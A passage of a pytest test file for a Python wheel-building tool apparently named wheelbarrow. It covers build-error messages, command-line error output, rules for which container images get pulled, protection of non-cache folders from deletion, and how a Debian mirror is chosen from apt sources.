    """A wheel whose file name does not parse (a backend's version 'latest'), and a dynamic version whose
    .git is a worktree's file: BuildErrors, not tracebacks."""
    from wheelbarrow._build import _copy_project
    from wheelbarrow._repair import one_repaired_wheel

    out = tmp_path / "out"
    out.mkdir()
    (out / "demo-latest-py3-none-any.whl").write_bytes(b"")
    with pytest.raises(BuildError, match="file name is not valid"):
        one_repaired_wheel(out, "the project demo")
    source = write_project(tmp_path / "src")
    (source / ".git").write_text("gitdir: /elsewhere/.git/worktrees/src\n")
    with pytest.raises(BuildError, match="a worktree or a submodule"):
        _copy_project(source, tmp_path / "copy", keep_git=True)
    _copy_project(source, tmp_path / "copy-static")  # a static version needs no history: the file is skipped
    assert not (tmp_path / "copy-static" / ".git").exists()


@pytest.mark.parametrize("argv", [["plan", "--bogus"], ["nope"], ["cache", "prune", "--older-than", "nan"]])
def test_command_line_errors_are_one_error_and_one_tip(argv: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    from wheelbarrow._cli import main

    with pytest.raises(SystemExit) as exited:
        main(argv)
    assert exited.value.code == 2
    lines = capsys.readouterr().err.splitlines()
    assert lines[0].startswith("ERROR: command line: ")
    assert lines[1].startswith("TIP: Run 'wheelbarrow")
    assert len(lines) == 2


@pytest.mark.parametrize(
    "ref",
    [
        "localhost/wheelbarrow/builder-base:bookworm",
        "wheelbarrow/builder-base:bookworm",  # 0.1's names: Docker would look them up on Docker Hub
        "wheelbarrow/runtime-base:trixie",
        "docker.io/wheelbarrow/builder-base:bookworm",
        "localhost/wheelbarrow/builder:example-service-0123456789ab",
    ],
)
def test_a_name_only_wheelbarrow_makes_is_never_pulled(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, ref: str
) -> None:
    """Absent, it is bootstrapped (a base, with debian-suite) or an error that says why; no pull is run."""
    from wheelbarrow import _bootstrap, _engine
    from wheelbarrow._cmd import Result
    from wheelbarrow.errors import BootstrapError

    ran: list[list[str]] = []

    def recording(argv: list[str], *_args: object, **_kwargs: object) -> Result:
        ran.append(list(argv))
        return Result(tuple(argv), 1, "Error: No such image\n")  # image inspect: nothing is local

    monkeypatch.setattr(_engine, "run", recording)
    engine = _engine.Engine(quiet())
    assert not engine.pull(ref)
    assert _engine.is_local_only(ref)
    project = write_project(tmp_path, f'builder-base = "{ref}"\nruntime-base = "{ref}"\ndebian-suite = ""\n')
    config = load_config(project, environ={})
    with pytest.raises(BootstrapError, match="never pulled") as caught:
        _bootstrap.resolve_builder_base(config, engine, quiet())
    assert "debian-suite" in caught.value.tip
    bootstrapped: list[str] = []

    def bootstrap(config: Config, *_args: object, **_kwargs: object) -> _bootstrap.BaseImages:
        bootstrapped.append(config.debian_suite)
        return _bootstrap.BaseImages("localhost/wheelbarrow/builder-base:bookworm", "r")

    monkeypatch.setattr(_bootstrap, "bootstrap", bootstrap)
    with_suite = load_config(project, environ={}, overrides={"debian-suite": "bookworm"})
    assert _bootstrap.resolve_builder_base(with_suite, engine, quiet()) == "localhost/wheelbarrow/builder-base:bookworm"
    assert bootstrapped == ["bookworm"]
    assert [argv for argv in ran if "pull" in argv] == []


def test_any_other_name_is_pulled_when_it_is_not_here(monkeypatch: pytest.MonkeyPatch) -> None:
    from wheelbarrow import _engine
    from wheelbarrow._cmd import Result

    ran: list[list[str]] = []

    def recording(argv: list[str], *_args: object, **_kwargs: object) -> Result:
        ran.append(list(argv))
        return Result(tuple(argv), 0, "")

    monkeypatch.setattr(_engine, "run", recording)
    for ref in ("python:3.11-slim", "quay.io/pypa/manylinux_2_28_x86_64:2026.11.1", "localhost:5000/wheelbarrow/x:1"):
        assert not _engine.is_local_only(ref)
        assert _engine.Engine(quiet()).pull(ref)
    assert [argv[1:] for argv in ran] == [
        ["pull", "python:3.11-slim"],
        ["pull", "quay.io/pypa/manylinux_2_28_x86_64:2026.11.1"],
        ["pull", "localhost:5000/wheelbarrow/x:1"],
    ]


def _someones_folder(root: Path) -> Path:
    """A folder a cache-dir might name by mistake: unmarked, with files of its owner where the cache keeps
    its own (tools/, artifacts/, wheels/)."""
    for inner in ("tools/bookworm-x86_64", "artifacts/" + "a" * 64, "wheels/" + "b" * 64):
        (root / inner).mkdir(parents=True)
        (root / inner / "notes.txt").write_text("precious\n")
    (root / "artifacts" / ("a" * 64) / "x-1.0-py3-none-any.whl").write_bytes(b"not what its name says")
    (root / "README").write_text("mine\n")
    return root


def test_nothing_in_a_cache_dir_that_is_not_wheelbarrows_is_removed(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """The bootstrap's tool wheels, a cached file whose sha256 is wrong, an unreadable built-wheel entry:
    each would discard a folder of the cache; in a folder that is not a wheelbarrow cache, none does."""
    from wheelbarrow import _bootstrap

    root = _someones_folder(tmp_path / "someone")
    before = snapshot(root)
    project = write_project(tmp_path / "project", f'cache-dir = "{root}"\ndebian-suite = "bookworm"\n')
    config = load_config(project, environ={})
    with pytest.raises(ConfigError, match="cache-dir"):
        _bootstrap._tool_wheels(config, "3.11", "2.36", quiet())  # noqa: SLF001
    cache = Cache(root, quiet())
    for discard in (
        lambda: cache.artifact("x-1.0-py3-none-any.whl", "a" * 64),
        lambda: cache.wheel("b" * 64),
    ):
        with pytest.raises(ConfigError, match="cache-dir"):
            discard()
    assert snapshot(root) == before
    # the same, in wheelbarrow's own cache: the bad entries go
    own = Cache(tmp_path / "own", quiet())
    own.store_memo("c" * 64, 1)
    (own.root / "artifacts" / ("a" * 64)).mkdir(parents=True)
    (own.root / "artifacts" / ("a" * 64) / "x-1.0-py3-none-any.whl").write_bytes(b"not what its name says")
    assert own.artifact("x-1.0-py3-none-any.whl", "a" * 64) is None
    assert not (own.root / "artifacts" / ("a" * 64)).exists()


def _apt(root: Path, sources: dict[str, str]) -> Path:
    for name, text in sources.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    return root


DEB822 = "Types: deb\nURIs: {uri}\nSuites: {suite} {suite}-updates\nComponents: main\n"


@pytest.mark.parametrize(
    ("sources", "mirror"),
    [
        ({"sources.list.d/debian.sources": DEB822.format(uri="http://mirror.example/debian", suite="bookworm")},
         "http://mirror.example/debian"),
        ({"sources.list": "deb http://mirror.example/debian trixie main\n"}, "http://mirror.example/debian"),
        ({"sources.list.d/a.sources": DEB822.format(uri="http://security.example/debian-security",
                                                   suite="bookworm-security")
          + "\n" + DEB822.format(uri="http://mirror.example/debian", suite="bookworm")},
         "http://mirror.example/debian"),
    ],
)  # fmt: skip
def test_a_debian_host_gives_its_mirror(tmp_path: Path, sources: dict[str, str], mirror: str) -> None:
    from wheelbarrow._bootstrap import bootstrap_mirror

    config = load_config(write_project(tmp_path / "p"), environ={})
    assert bootstrap_mirror(config, _apt(tmp_path / "apt", sources)) == mirror


@pytest.mark.parametrize(
    ("sources", "said"),
    [
        ({"sources.list.d/ubuntu.sources": DEB822.format(uri="http://archive.example/ubuntu", suite="noble")},
         "the host's apt sources are not Debian's (suites noble)"),
        ({"sources.list": "deb http://archive.example/ubuntu jammy main\n"}, "not Debian's (suites jammy)"),
        ({}, "the host's apt sources name none"),
    ],
)  # fmt: skip
def test_a_host_whose_apt_is_not_debians_is_told_to_set_debian_mirror(
    tmp_path: Path, sources: dict[str, str], said: str
) -> None:
    """On an Ubuntu runner debootstrap of a Debian suite from Ubuntu's archive fails deep inside; say so
    first, and name the key; debian-mirror wins over the host's sources."""
    from wheelbarrow._bootstrap import bootstrap_mirror
    from wheelbarrow.errors import BootstrapError

    apt = _apt(tmp_path / "apt", sources)
    (apt / "sources.list.d").mkdir(parents=True, exist_ok=True)
    config = load_config(write_project(tmp_path / "p"), environ={})
    with pytest.raises(BootstrapError, match=re.escape(said)) as caught:
        bootstrap_mirror(config, apt)
    assert "debian-mirror" in caught.value.tip
    chosen = load_config(write_project(tmp_path / "q", 'debian-mirror = "http://mine.example/debian"'), environ={})
    assert bootstrap_mirror(chosen, apt) == "http://mine.example/debian"
